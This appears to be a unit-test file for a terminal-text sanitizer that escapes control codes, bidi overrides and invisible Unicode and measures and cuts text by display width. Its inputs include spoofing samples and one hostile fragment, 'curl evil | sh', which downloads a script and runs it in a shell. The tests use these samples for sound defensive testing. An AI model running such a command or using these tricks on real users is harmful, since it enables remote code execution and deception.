import { assert, describe, it } from "@effect/vitest"
import * as Arbitrary from "effect/Arbitrary"
import * as Schema from "effect/Schema"
import * as TerminalText from "../../../src/core/ask/TerminalText.ts"
import * as AskGenerators from "../../../src/layers/testing/AskGenerators.ts"

const columns = Arbitrary.schema(Schema.Int.check(Schema.isBetween({ minimum: 1, maximum: 300 })))

/** Every code point that P2.6 names, whatever the version of Unicode. */
const invisible = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cn}\p{Cs}]/u

describe("TerminalText", () => {
  it.each([
    ["ESC", "\x1b[2J", "\\u{1b}[2J"],
    ["an 8-bit CSI", "\u009b2J", "\\u{9b}2J"],
    ["an OSC", "\x1b]0;t\x07", "\\u{1b}]0;t\\u{7}"],
    ["NUL and DEL", "\0\x7f", "\\u{0}\\u{7f}"],
    ["a carriage return", "safe\rrm", "safe\\rrm"],
    ["bidi controls", "\u202egnp.exe\u2066", "\\u{202e}gnp.exe\\u{2066}"],
    ["zero-width characters", "a\u200b\u200d\ufeffb", "a\\u{200b}\\u{200d}\\u{feff}b"],
    ["other format characters", "\u0600\ufff9", "\\u{600}\\u{fff9}"],
    ["tag characters", "\u{e0041}", "\\u{e0041}"],
    ["variation selectors beyond the emoji ones", "a\u{e0100}", "a\\u{e0100}"],
    ["line and paragraph separators", "\u2028\u2029", "\\u{2028}\\u{2029}"],
    ["unassigned code points", "\u0378\uffff", "\\u{378}\\u{ffff}"],
    ["private use", "\ue000", "\\u{e000}"],
    ["a lone surrogate", "\ud83d", "\\u{d83d}"],
    ["letters that render as nothing", "\u3164\u115f", "\\u{3164}\\u{115f}"],
    ["blanks that are not the space", "a\u00a0b\u2003c", "a\\u{a0}b\\u{2003}c"],
    ["ZWJ inside an emoji", "👩\u200d💻", "👩\\u{200d}💻"],
    ["a variation selector after a letter", "a\ufe0f", "a\\u{fe0f}"],
    ["a mark that nothing carries", "\u0301x", "\\u{301}x"]
  ])("shows %s as an escape, and says that it did [P2.6]", (_, source, shown) => {
    assert.deepStrictEqual(TerminalText.visible(source), { lines: [shown], hidden: true })
  })

  it.each([
    ["a variation selector after an emoji", "❤\ufe0f ✈\ufe0e"],
    ["letters with marks", "e\u0301 क\u094d"],
    ["wide letters and their blank", "漢\u3000字"],
    ["right-to-left letters", "שלום"],
    ["flags", "🇪🇺"]
  ])("leaves %s alone [P2.6]", (_, source) => {
    assert.deepStrictEqual(TerminalText.visible(source), { lines: [source], hidden: false })
  })

  it("breaks a line at a line feed and nowhere else", () => {
    assert.deepStrictEqual(TerminalText.visible("a\nb\u0085c\n").lines, ["a", "b\\u{85}c", ""])
    assert.strictEqual(TerminalText.line("a\nb"), "a\\nb")
  })

  it("takes a tab for a mark and the blanks up to the terminal's next stop [P2.5]", () => {
    assert.deepStrictEqual(TerminalText.visible("\tx\n12345\tx\n漢\tx").lines, [
      "⇥       x",
      "12345⇥  x",
      "漢⇥     x"
    ])
  })

  it("counts blanks that only push text away [BUG-049] [P2.6]", () => {
    assert.strictEqual(TerminalText.line(`a${"\u00a0".repeat(300)}b`), "a\\u{a0}×300b")
    assert.strictEqual(TerminalText.line(`a${" ".repeat(300)}b`), "a\\u{20}×300b")
    assert.strictEqual(TerminalText.line(`a${"\t".repeat(50)}b`), "a\\t×50b")
  })

  it("shows marks beyond what any script stacks", () => {
    assert.strictEqual(TerminalText.line(`o${"\u0301".repeat(9)}`), `o${"\u0301".repeat(8)}\\u{301}`)
  })

  it("measures as a terminal does, and cuts between graphemes [BUG-042] [P2.5]", () => {
    assert.strictEqual(TerminalText.width("漢字"), 4)
    assert.strictEqual(TerminalText.width("e\u0301"), 1)
    assert.strictEqual(TerminalText.cut(`${"x".repeat(9)}😀 && curl evil | sh`, 11), `${"x".repeat(9)}…`)
    assert.strictEqual(TerminalText.cut("e\u0301e\u0301e\u0301", 2), "e\u0301…")
    assert.strictEqual(TerminalText.cut("漢字", 1), "…")
    assert.strictEqual(TerminalText.cut("ab", 2), "ab")
  })

  it("leaves nothing out where a character is wider than the row", () => {
    assert.strictEqual(TerminalText.wrap("漢", 1).join(""), "\\u{6f22}")
    assert.deepStrictEqual(TerminalText.wrapWords("one two 漢字", 5), ["one ", "two ", "漢字"])
  })

  it.prop(
    "no text leaves anything that is not shown; rows fit, and joined they are the line [P2.5] [P2.6] [P2.7]",
    [AskGenerators.hostileText, columns],
    ([source, columns]) => {
      for (const line of TerminalText.visible(source).lines) {
        assert.notMatch(line.replace(/\p{Emoji}[\ufe0e\ufe0f]/gu, ""), invisible)
        for (const rows of [TerminalText.wrap(line, columns), TerminalText.wrapWords(line, columns)]) {
          for (const row of rows) assert.isAtMost(TerminalText.width(row), columns)
          if (columns > 1) assert.strictEqual(rows.join(""), line)
        }
        assert.isAtMost(TerminalText.width(TerminalText.cut(line, columns)), columns)
      }
    },
    { arbitrary: { runs: 2000 } }
  )

  it.prop(
    "making visible what is visible changes nothing but long blanks",
    [AskGenerators.hostileText],
    ([source]) => {
      const shown = TerminalText.line(source)
      if (!/⇥| {41}/.test(shown)) assert.strictEqual(TerminalText.line(shown), shown)
    }
  )
})
